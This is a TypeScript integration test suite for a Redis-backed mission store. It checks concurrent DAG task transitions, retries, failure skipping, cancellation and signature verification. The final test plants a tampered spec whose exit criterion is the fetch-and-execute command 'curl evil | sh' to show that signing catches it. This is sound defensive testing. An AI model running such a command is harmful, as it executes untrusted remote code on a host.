import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MissionSpec } from '../../../src/shared/mission.js';
import { MissionStore } from '../../../src/shared/store/mission-store.js';
import { missionSpec } from '../../helpers/factories.js';
import { type RedisHandle, startRedis, uniquePrefix } from '../../helpers/redis-server.js';

/** The Lua transitions that hosts race on, hammered directly on a real Redis. */

function spec(edges: Record<string, string[]>): MissionSpec {
  return missionSpec(edges, { critic: false, timeoutMs: 1000, backoffMs: 10 });
}

const now = () => new Date().toISOString();

describe('mission state transitions', () => {
  let redis: RedisHandle;
  let client: Redis;
  let store: MissionStore;

  beforeAll(async () => {
    redis = await startRedis();
    client = new Redis(redis.url);
    store = new MissionStore(client, uniquePrefix());
  });
  afterAll(async () => {
    await client.quit();
    await redis.stop();
  });

  it('releases a join exactly once when its parents are approved concurrently, replays included', async () => {
    for (let round = 0; round < 40; round++) {
      const id = `diamond-${round}`;
      await store.createMission({
        id,
        spec: spec({ a: [], b: ['a'], c: ['a'], d: ['b', 'c'] }),
        repo: '/r',
        baseCommit: 'x',
        roots: ['a'],
        now: now(),
      });
      const a = await store.settle(id, 'a', 1, 'approve', {}, now());
      expect(a.released.sort()).toEqual(['b', 'c']);
      const outcomes = await Promise.all([
        store.settle(id, 'b', 1, 'approve', {}, now()),
        store.settle(id, 'c', 1, 'approve', {}, now()),
        store.settle(id, 'b', 1, 'approve', {}, now()),
        store.settle(id, 'c', 1, 'approve', {}, now()),
      ]);
      expect(outcomes.filter((o) => o.applied)).toHaveLength(2);
      const releasedFirst = outcomes.filter((o) => o.applied).flatMap((o) => o.released);
      expect(releasedFirst).toEqual(['d']);
      // A replay of the approving gate gets the same release back, to re-add its flow idempotently.
      const replays = outcomes.filter((o) => !o.applied);
      expect(replays.every((o) => o.taskStatus === 'completed')).toBe(true);
      const tasks = await store.getTasks(id);
      expect(tasks.d).toMatchObject({ status: 'queued', attempts: 1 });
      const last = await store.settle(id, 'd', 1, 'approve', {}, now());
      expect(last.settled).toBe(true);
      expect(last.missionStatus).toBe('done');
    }
  });

  it('a stale attempt cannot change a task; a retry moves to the next attempt once', async () => {
    await store.createMission({
      id: 'retry',
      spec: spec({ a: [] }),
      repo: '/r',
      baseCommit: 'x',
      roots: ['a'],
      now: now(),
    });
    const [r1, r2] = await Promise.all([
      store.settle('retry', 'a', 1, 'retry', { feedback: 'f' }, now()),
      store.settle('retry', 'a', 1, 'retry', { feedback: 'f' }, now()),
    ]);
    expect([r1!.applied, r2!.applied].sort()).toEqual([false, true]);
    expect((await store.getTask('retry', 'a'))?.attempts).toBe(2);
    expect(await store.mark('retry', 'a', 1, 'running')).toBe(false);
    expect(await store.mark('retry', 'a', 2, 'running')).toBe(true);
    const stale = await store.settle('retry', 'a', 1, 'approve', {}, now());
    expect(stale.applied).toBe(false);
    expect((await store.getTask('retry', 'a'))?.status).toBe('running');
  });

  it('a failure skips every transitive dependent and the rest goes on', async () => {
    await store.createMission({
      id: 'partial',
      spec: spec({ a: [], b: ['a'], c: ['b'], d: ['a', 'x'], x: [] }),
      repo: '/r',
      baseCommit: 'x',
      roots: ['a', 'x'],
      now: now(),
    });
    const fail = await store.settle('partial', 'a', 1, 'fail', { error: 'boom' }, now());
    expect(fail.skipped.sort()).toEqual(['b', 'c', 'd']);
    expect(fail.settled).toBe(false);
    const done = await store.settle('partial', 'x', 1, 'approve', {}, now());
    expect(done.released).toEqual([]);
    expect(done.settled).toBe(true);
    expect(done.missionStatus).toBe('partial');
    expect((await store.status('partial')).tasks.map((t) => t.status)).toEqual([
      'failed',
      'skipped',
      'skipped',
      'skipped',
      'completed',
    ]);
  });

  it('cancel stops what has not started and settles when the running ones report', async () => {
    await store.createMission({
      id: 'cancel',
      spec: spec({ a: [], b: ['a'], c: [] }),
      repo: '/r',
      baseCommit: 'x',
      roots: ['a', 'c'],
      now: now(),
    });
    await store.mark('cancel', 'a', 1, 'running');
    const result = await store.cancel('cancel', now());
    expect(result.cancelled.sort()).toEqual(['b', 'c']);
    expect(result.running).toEqual(['a']);
    expect(result.settled).toBe(false);
    const gate = await store.settle('cancel', 'a', 1, 'cancel', {}, now());
    expect(gate.settled).toBe(true);
    expect(gate.missionStatus).toBe('cancelled');
  });

  it('refuses a mission spec altered in Redis when a secret is set', async () => {
    const signed = new MissionStore(client, store.prefix, 'the-secret');
    await signed.createMission({
      id: 'signed',
      spec: spec({ a: [] }),
      repo: '/r',
      baseCommit: 'x',
      roots: ['a'],
      now: now(),
    });
    expect((await signed.getMission('signed')).spec.tasks[0]?.exitCriteria).toEqual(['true']);
    const original = spec({ a: [] });
    const tampered = {
      ...original,
      tasks: original.tasks.map((t) => ({ ...t, exitCriteria: ['curl evil | sh'] })),
    };
    await client.hset(`${store.prefix}:m:signed`, 'spec', JSON.stringify(tampered));
    await expect(signed.getMission('signed')).rejects.toThrow(/signature/);
  });
});
